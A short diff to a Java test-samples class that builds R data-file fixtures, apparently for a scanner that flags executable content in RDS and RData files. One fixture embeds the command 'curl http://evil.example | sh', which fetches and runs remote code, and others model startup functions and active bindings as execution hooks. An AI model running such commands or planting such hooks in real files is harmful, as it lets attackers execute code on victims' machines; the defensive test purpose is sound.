@@ -127,7 +127,7 @@ public final class RSamples {
                         "active.rds", rds(environment(variable(ACTIVE, "x", closure(NIL)))), "model/r-active-binding"),
                 FormatCase.of(
                         "startup.rdata", workspace(variable(0, ".First", closure(NIL))), "model/r-startup-function"),
-                FormatCase.of("manual.rds", rds(string("call os.system('id') to see who you are"))),
+                FormatCase.of("manual.rds", rds(string("call system('id') to see who you are"))),
                 FormatCase.of(
                         "promised-command.rds",
                         rds(promise(call(symbol("run"), string("curl http://evil.example | sh")))),
